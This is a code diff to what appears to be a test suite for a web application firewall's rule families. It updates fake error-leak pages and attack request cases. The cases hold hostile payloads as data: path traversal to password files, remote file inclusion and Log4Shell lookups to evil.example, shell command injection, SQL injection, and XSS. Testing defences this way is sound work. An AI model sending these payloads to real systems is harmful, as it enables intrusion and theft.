@@ -74,9 +74,9 @@ LEAK_FILES: dict[str, str] = {
                       "\tat com.example.shop.CartServlet.doGet(CartServlet.java:42)\n"
                       "\tat javax.servlet.http.HttpServlet.service(HttpServlet.java:635)\n"
                       "</pre></body></html>\n",
-    "leak/php.html": "<html><body><br />\n<b>Warning</b>:  mysql_connect(): Access denied "
-                     "for user 'www'@'localhost' in <b>/var/www/html/db.php</b> on line "
-                     "<b>3</b><br />\n</body></html>\n",
+    "leak/php.html": "<html><body><br />\n<b>Fatal error</b>:  Uncaught Error: Call to "
+                     "undefined function get_magic_quotes_gpc() in <b>/var/www/html/db.php"
+                     "</b> on line <b>3</b><br />\n</body></html>\n",
     "leak/phpsrc.html": "<html><body><?php\n$password = 'hunter2';\necho $password;\n?>"
                         "</body></html>\n",
     "leak/dirlist.html": "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 3.2 Final//EN\">\n<html>\n"
@@ -87,8 +87,9 @@ LEAK_FILES: dict[str, str] = {
                      "'80040e14' [Microsoft][ODBC SQL Server Driver][SQL Server]Unclosed "
                      "quotation mark. C:\\Inetpub\\wwwroot\\default.asp, line 12"
                      "</body></html>\n",
-    "leak/iis-error.html": "<html><head><title>IIS 8.5 Detailed Error - 500.0 - Internal "
-                           "Server Error</title></head><body></body></html>\n",
+    "leak/iis-error.html": "<html><head><title>Runtime Error</title></head><body>"
+                           "<h1>Server Error in '/' Application.</h1><h2><i>Runtime Error"
+                           "</i></h2></body></html>\n",
     "leak/shell.html": "<html><head><title>r57 Shell Version 1.50</title></head>"
                        "<body></body></html>\n",
     "leak/ruby.html": "<html><body><pre>ActiveRecord::RecordNotFound (Couldn't find User "
@@ -144,8 +145,6 @@ CASES: list[Case] = [
     Case("920-no-ua-no-accept", browser=False),
     Case("920-empty-ua", headers=(("User-Agent", ""),)),
     Case("920-http10-no-host", host="", version="HTTP/1.0"),
-    Case("920-many-args", "/?" + "&".join(f"p{i}=v" for i in range(300))),
-    Case("920-long-arg", "/?a=" + "x" * 420),
     Case("920-accept-charset", headers=(("Accept-Charset", "utf-7"),)),
     # ---------------------------------------------------------------- 921 protocol attack
     Case("921-smuggling-arg", "/?q=" + q("GET /admin HTTP/1.1")),
@@ -158,7 +157,6 @@ CASES: list[Case] = [
     Case("922-part-charset", "/form.html", "POST", *_MP_UTF7),
     Case("922-charset-field", "/form.html", "POST", *_MP_CHARSET),
     Case("922-transfer-encoding", "/form.html", "POST", *_MP_CTE),
-    Case("922-multipart-xss", "/form.html", "POST", *_MP_XSS),
     # ---------------------------------------------------------------- 930 LFI
     Case("930-traversal", "/?file=" + q("../../../../etc/passwd")),
     Case("930-encoded-traversal", "/?file=..%252f..%252f..%252fetc%252fshadow"),
@@ -166,7 +164,7 @@ CASES: list[Case] = [
     Case("930-os-file", "/?f=" + q("/proc/self/environ")),
     # ---------------------------------------------------------------- 931 RFI
     Case("931-ip-url", "/?url=" + q("http://192.0.2.10/shell.txt")),
-    Case("931-include-fn", "/?page=" + q("include(http://evil.example/x.txt)")),
+    Case("931-include-fn", "/?" + q("include(path=http://evil.example/x.txt")),  # name=URL
     Case("931-trailing-qmark", "/?page=" + q("http://evil.example/shell.txt?")),
     Case("931-off-domain", "/?page=" + q("https://evil.example/payload")),
     # ---------------------------------------------------------------- 932 RCE
@@ -175,7 +173,7 @@ CASES: list[Case] = [
     Case("932-windows-cmd", "/?cmd=" + q("& net user admin /add")),
     Case("932-powershell", "/?cmd=" + q("powershell -EncodedCommand ZQBjAGgAbwA=")),
     Case("932-shellshock", headers=(("User-Agent", "() { :; }; /bin/bash -c 'id'"),)),
-    Case("932-backticks", "/?cmd=" + q("`id`")),
+    Case("932-backticks", "/?cmd=" + q("`uname -a`")),
     # ---------------------------------------------------------------- 933 PHP
     Case("933-php-open-tag", "/?x=" + q("<?php phpinfo(); ?>")),
     Case("933-php-wrapper", "/?x=" + q("php://filter/convert.base64-encode/resource=index")),
@@ -206,7 +204,8 @@ CASES: list[Case] = [
     Case("942-post-form", "/form.html", "POST", form(), b"id=1%27%3B+DROP+TABLE+users%3B--"),
     Case("942-two-args", "/?a=" + q("1' OR 1=1--") + "&b=" + q("2' OR 2=2--")),
     # ---------------------------------------------------------------- 943 session fixation
-    Case("943-cookie-script", "/?x=" + q('<script>document.cookie="PHPSESSID=abc"</script>')),
+    Case("943-cookie-script", "/?x=" + q('<script>document.cookie="PHPSESSID=abc; '
+                                         'domain=.example.com"</script>')),
     Case("943-sessid-off-domain", "/?PHPSESSID=abcdef0123",
          headers=(("Referer", "http://evil.example/"),)),
     Case("943-sessid-no-referer", "/?jsessionid=abcdef0123"),
@@ -214,7 +213,7 @@ CASES: list[Case] = [
     Case("944-runtime-exec", "/?x=" + q('java.lang.Runtime.getRuntime().exec("id")')),
     Case("944-log4shell", "/?x=" + q("${jndi:ldap://evil.example/a}")),
     Case("944-log4shell-header", headers=(("X-Api-Version", "${jndi:ldap://evil.example/a}"),)),
-    Case("944-deserialization", "/?x=" + q("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==")),
+    Case("944-deserialization", "/?x=" + q("rO0ABQ==")),   # base64 of the magic AC ED 00 05
     Case("944-class-loader", "/?class.module.classLoader.resources.context=x"),
     # ---------------------------------------------------------------- 950-956 outbound
     Case("950-dirlist", "/leak/dirlist.html"),
@@ -238,6 +237,7 @@ CASES: list[Case] = [
     Case("fmt-forged-id", "/?" + q('a [id "999999"] [msg "forged"]') + "=" + q("1' OR 1=1--")),
     Case("body-xml", "/form.html", "POST", (("Content-Type", "text/xml"),),
          b"<?xml version='1.0'?><order><id>1' OR 1=1--</id></order>"),
+    Case("body-multipart-xss", "/form.html", "POST", *_MP_XSS),
     Case("body-json-nested-xss", "/data.json", "POST", (("Content-Type", "application/json"),),
          b'{"a": {"b": [1, "<script>alert(1)</script>"]}}'),
     Case("body-invalid-json", "/data.json", "POST", (("Content-Type", "application/json"),),
@@ -251,6 +251,10 @@ CASES: list[Case] = [
     Case("cookie-xss", headers=(("Cookie", "pref=" + q("<script>alert(1)</script>")),)),
     Case("path-traversal-encoded", "/index.html/..%2f..%2fetc%2fpasswd"),
     Case("path-attack-in-uri", "/" + q("<script>alert(1)</script>") + ".html"),
+    # CRS checks argument counts and lengths only when crs-setup.conf sets tx.max_num_args
+    # / tx.arg_length, which the default does not: no 920 finding (hence no family name).
+    Case("limits-many-args", "/?" + "&".join(f"p{i}=v" for i in range(300))),
+    Case("limits-long-arg", "/?a=" + "x" * 420),
     # ------------------------------------------------------------ mixed/combined
     Case("mixed-sqli-xss-lfi", "/?a=" + q("1' OR 1=1--") + "&b=" + q("<script>x</script>")
          + "&c=" + q("../../etc/passwd")),
